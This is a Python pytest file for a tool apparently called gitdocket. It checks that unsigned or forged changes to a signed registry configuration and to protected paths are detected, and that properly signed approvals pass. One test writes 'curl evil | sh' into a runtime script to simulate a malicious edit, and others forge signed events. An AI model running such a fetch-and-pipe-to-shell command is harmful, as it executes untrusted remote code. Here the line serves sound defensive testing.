"""Nothing unsigned decides anything (issue 9, item 1): the registry's configuration is a signed
scope log; ``registry.yaml`` is its readable face; protected paths (``contracts/`` always, the
workflows by default) change only with an approval signed by their role. For each hole: the
unsigned edit is caught in every verify mode, and the signed change passes."""

from __future__ import annotations

import json
import shutil
from typing import Any

import pytest

from gitdocket.lifecycles import scope
from tests.integration.forgery import Forger, ssh_signature
from tests.integration.releases_support import Release
from tests.support import Registry

CONFIG = scope("config")
PROD = scope("environment", "prod")
YAML = "registry/registry.yaml"
WORKFLOW = ".github/workflows/registry-check.yml"


def _findings(reg: Registry, *args: str) -> list[tuple[str, str]]:
    result = reg.run("verify", *args, "--format", "json")
    data = result.json()
    assert data["ok"] is (result.code == 0)
    return [(f["code"], f["path"]) for f in data["findings"]]


def _every_mode(reg: Registry, base: str) -> list[list[tuple[str, str]]]:
    """What snapshot, PR and history mode say about the change since ``base``."""
    return [_findings(reg), _findings(reg, "--base", base), _findings(reg, "--since", base)]


def _edit(reg: Registry, rel_path: str, old: str, new: str) -> None:
    path = reg.path / rel_path
    text = path.read_text()
    assert old in text, text
    path.write_text(text.replace(old, new))


OPEN_PROD = ("  - name: prod\n    sources: [staging]\n", "  - name: prod\n    sources: [null, staging]\n")
NO_GATE = ("    gate_profile: promotion\n    require_gate: true\n\nbundle:", "    gate_profile: promotion\n\nbundle:")


def _open_prod(reg: Registry) -> str:
    """The attack of the issue: prod takes bundles straight from a build, with no gate."""
    base = reg.git("rev-parse", "HEAD").strip()
    _edit(reg, YAML, *OPEN_PROD)
    _edit(reg, YAML, *NO_GATE)
    reg.git("commit", "-qam", "open prod (unsigned)")
    return base


def test_an_unsigned_registry_yaml_edit_is_caught_in_every_mode_and_decides_nothing(rel: Release) -> None:
    base = _open_prod(rel.reg)
    for findings in _every_mode(rel.reg, base):
        assert findings == [("CONFIG_DRIFT", YAML)]
    bid = rel.build()
    refused = rel.promote(bid, "prod", gated=False)  # writers read the signed state, not the file
    assert refused.code == 1
    assert refused.err.startswith("error: cannot promote a bundle to environment prod: it needs a passing gate")


def test_the_signed_change_passes_and_then_decides(rel: Release) -> None:
    base = _open_prod(rel.reg)
    out = rel.reg.ok("config", "apply", "--format", "json").json()
    assert out["version"] == 2
    for findings in _every_mode(rel.reg, base):
        assert findings == []
    bid = rel.build()
    assert rel.promote(bid, "prod", gated=False).code == 0
    assert _findings(rel.reg) == []
    shown = rel.reg.ok("config", "show", "--format", "json").json()
    assert shown["drift"] is None and shown["registry"]["environments"][3]["sources"] == [None, "staging"]


def test_history_mode_reports_an_unsigned_change_even_when_it_was_reverted_later(rel: Release) -> None:
    base = _open_prod(rel.reg)
    unsigned = rel.reg.git("rev-parse", "HEAD").strip()
    rel.reg.git("revert", "--no-edit", "HEAD")
    assert _findings(rel.reg) == []
    assert _findings(rel.reg, "--since", base) == [("CONFIG_DRIFT", YAML)]
    [finding] = rel.reg.run("verify", "--since", base, "--format", "json").json()["findings"]
    assert finding["message"].startswith(f"at commit {unsigned[:12]}: ")  # the commit that held it


@pytest.mark.parametrize(
    ("path", "change"),
    [
        pytest.param(WORKFLOW, "edit", id="workflow-edited"),
        pytest.param(".github/workflows/evil.yml", "add", id="workflow-added"),
        pytest.param(".github/workflows/deployment-rollback.yml", "delete", id="workflow-deleted"),
        pytest.param("contracts/event.v1/schema.json", "edit", id="contract-edited"),
        pytest.param("contracts/contracts.seal.json", "delete", id="seal-deleted"),
        pytest.param("contracts/event.v2/schema.json", "add", id="contract-added"),
    ],
)
def test_an_unsigned_change_to_a_protected_path_is_caught_and_an_approval_passes(
    rel: Release, path: str, change: str
) -> None:
    """PROTECTED_PATHS_APPROVED: an edit, addition or deletion under a protected path is
    PATH_UNAPPROVED until its role approves it."""
    reg = rel.reg
    base = reg.git("rev-parse", "HEAD").strip()
    target = reg.path / path
    if change == "delete":
        target.unlink()
    else:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text((target.read_text() if target.exists() else "") + "# changed\n")
    reg.git("add", "-A")
    reg.git("commit", "-qm", f"{change} {path} (unsigned)")
    for findings in _every_mode(reg, base):
        assert findings == [("PATH_UNAPPROVED", path)]
    message = next(f for f in reg.run("verify", "--format", "json").json()["findings"])
    assert {"added": "add", "changed": "edit", "deleted": "delete"}[message["message"].split()[0]] == change
    assert "gitdocket config approve" in message["hint"]
    approved = reg.ok("config", "approve", "--format", "json").json()["approved"]
    assert list(approved) == [path]
    for findings in _every_mode(reg, base):
        assert findings == []


def test_a_protected_path_needs_its_own_role(rel: Release) -> None:
    """A cryptographic CODEOWNERS: runtime/ is the builders'; bob, an author, cannot approve it."""
    reg = rel.reg
    (reg.path / "runtime").mkdir()
    (reg.path / "runtime" / "run.sh").write_text("echo run\n")
    _edit(reg, YAML, "protected:\n", "protected:\n  - path: runtime/\n    role: builders\n")
    reg.git("add", "-A")
    reg.git("commit", "-qm", "protect runtime/")
    assert _findings(reg) == [("CONFIG_DRIFT", YAML)]
    reg.ok("config", "apply")  # alice holds root and builders: what runtime/ holds now is approved
    assert _findings(reg) == []
    reg.ok("policy", "add-identity", "bob", f"{reg.key('bob')}.pub")
    reg.ok("policy", "grant", "authors", "bob")
    (reg.path / "runtime" / "run.sh").write_text("curl evil | sh\n")
    reg.git("commit", "-qam", "bob changes the runtime")
    assert _findings(reg) == [("PATH_UNAPPROVED", "runtime/run.sh")]
    refused = reg.run("config", "approve", key="bob")
    assert refused.code == 1 and "needs 1 signature(s) by builders" in refused.err
    reg.ok("config", "approve", "runtime/")
    assert _findings(reg) == []


def test_configuration_is_signed_by_root_or_whoever_holds_the_config_role(rel: Release) -> None:
    reg = rel.reg
    reg.ok("policy", "add-identity", "bob", f"{reg.key('bob')}.pub")
    _edit(reg, YAML, "include: []", "include: [docs]")
    reg.git("commit", "-qam", "include docs")
    before = reg.refs()
    refused = reg.run("config", "apply", key="bob")
    assert refused.code == 1 and "needs 1 signature(s) by config" in refused.err
    assert reg.refs() == before
    reg.ok("policy", "grant", "config", "bob")
    assert reg.run("config", "apply", key="alice").code == 1  # root no longer stands in for config
    reg.ok("config", "apply", key="bob")
    assert _findings(reg) == []


def test_a_configuration_change_forged_by_a_non_root_key_is_caught(rel: Release) -> None:
    reg = rel.reg
    reg.ok("policy", "add-identity", "bob", f"{reg.key('bob')}.pub")
    base = _open_prod(reg)
    forger = Forger(reg)
    signed = json.loads(forger.read(CONFIG.current_path))["registry"]
    prod = next(e for e in signed["environments"] if e["name"] == "prod")
    prod.update({"sources": [None, "staging"], "require_gate": False})
    event = forger.next_event(CONFIG, "config_applied", {"registry": signed}, "bob", policy_version=2)
    forger.append(CONFIG, event, ssh_signature("bob", "bob", CONFIG.path, event))
    forger.commit("bob signs his own configuration")
    where = f"{CONFIG.history_path}:{event.seq}"
    assert ("SIGNATURE_INVALID", where) in _findings(reg)
    assert ("UNAUTHORIZED_AT_BASE", where) in _findings(reg, "--base", base)


def _promotion(rel: Release, bid: str, **rules: Any) -> dict[str, Any]:
    built = json.loads((rel.reg.path / "bundles" / bid / "current.json").read_text())
    return {
        "bundle_id": bid,
        "bundle_tree": rel.tree_id(f"bundles/{bid}"),
        "manifest_digest": built["manifest_digest"],
        "source_environment": None,
        "allowed_sources": [None, "staging"],
        "require_gate": False,
        "gated": False,
        "gate_decision": None,
        "report_digest": None,
        "sequence": 1,
        "previous_bundle_id": None,
        "promoted_at": "2026-01-01T00:00:00Z",
        "promoted_by": "alice",
        **rules,
    }


@pytest.mark.parametrize(
    ("env", "rules", "rule"),
    [
        pytest.param("prod", {}, "ENVIRONMENT_TRANSITION_ALLOWED", id="prod-from-a-build-without-gate"),
        pytest.param("preview", {"allowed_sources": [None, "dev"]}, "ENVIRONMENT_TRANSITION_ALLOWED", id="own-sources"),
        pytest.param("preview", {"allowed_sources": [None], "require_gate": True}, "GATE_REQUIRED", id="own-gate"),
    ],
)
def test_a_promotion_that_brings_its_own_rules_is_caught(
    rel: Release, env: str, rules: dict[str, Any], rule: str
) -> None:
    """A promoter's key signs a legal-looking event whose sources and gate rule are its own: the
    replay accepts it (the event carries its rules), the signed configuration does not."""
    bid = rel.build()
    forger = Forger(rel.reg)
    target = scope("environment", env)
    data = _promotion(rel, bid, **rules)
    if data["require_gate"]:  # a gated promotion records its decision and its report
        data.update(gated=True, gate_decision="go", report_digest="sha256:" + "0" * 64)
    event = forger.next_event(target, "promoted", data, "alice", policy_version=1)
    forger.append(target, event, ssh_signature("alice", "alice", target.path, event))
    shutil.copytree(rel.reg.path / "bundles" / bid, rel.reg.path / target.path / "releases" / bid)
    forger.commit(f"a promotion to {env} under its own rules")
    findings = rel.reg.run("verify", "--format", "json").json()["findings"]
    ours = [f for f in findings if f["code"] == "CONFIG_NOT_FOLLOWED"]
    assert [(f["path"], f["invariant"]) for f in ours] == [(f"{target.history_path}:1", rule)]


def test_protected_paths_stay_out_of_the_signed_records(rel: Release) -> None:
    reg = rel.reg
    _edit(reg, YAML, "protected:\n", "protected:\n  - path: registry/policy/\n")
    reg.git("commit", "-qam", "protect the policy")
    before = reg.refs()
    result = reg.run("config", "apply")
    assert result.code == 2
    assert result.err.splitlines()[0].startswith("error: registry/registry.yaml: protected.0.path")
    assert reg.refs() == before


def test_a_protected_path_names_a_known_role(rel: Release) -> None:
    reg = rel.reg
    _edit(reg, YAML, "protected:\n", "protected:\n  - path: runtime/\n    role: wizards\n")
    reg.git("commit", "-qam", "protect runtime for wizards")
    result = reg.run("config", "apply")
    assert result.code == 1 and "names unknown role 'wizards' (ROLE_NAME_VALID)" in result.err
    assert "hint: use one of root, config, authors, builders, promoters[:env]" in result.err


def test_approving_what_nobody_protects_or_nothing_is_refused(rel: Release) -> None:
    reg = rel.reg
    nothing = reg.run("config", "approve")
    assert nothing.code == 2 and "no protected file differs from its approval" in nothing.err
    (reg.path / "notes.md").write_text("hello\n")
    reg.git("add", "-A")
    reg.git("commit", "-qm", "notes")
    assert reg.run("config", "approve", "notes.md").code == 2
    assert _findings(reg) == []


def test_a_registry_without_a_signed_configuration(rel: Release) -> None:
    """An older registry (or one whose configuration log was deleted): verify says so, names
    the file and the command, and no writer decides from the unsigned file."""
    reg = rel.reg
    reg.git("rm", "-rq", CONFIG.path)
    reg.git("commit", "-qm", "drop the configuration")
    assert _findings(reg) == [("CONFIG_UNSIGNED", YAML)]
    finding = reg.run("verify", "--format", "json").json()["findings"][0]
    assert "gitdocket config apply" in finding["hint"]
    refused = reg.run("bundle", "build", "--label", "pr-preview", "--evidence", rel.evidence)
    assert refused.code == 1
    assert refused.err.splitlines() == [
        "error: registry/registry.yaml is not signed: this registry has no signed configuration",
        "hint: a root holder signs registry/registry.yaml: `gitdocket config apply`",
    ]
    # Crossing to another registry needs the signed name, and says so in the same words.
    assert reg.run("vendor", "root").err.splitlines() == refused.err.splitlines()
    reg.ok("config", "apply")
    assert _findings(reg) == []
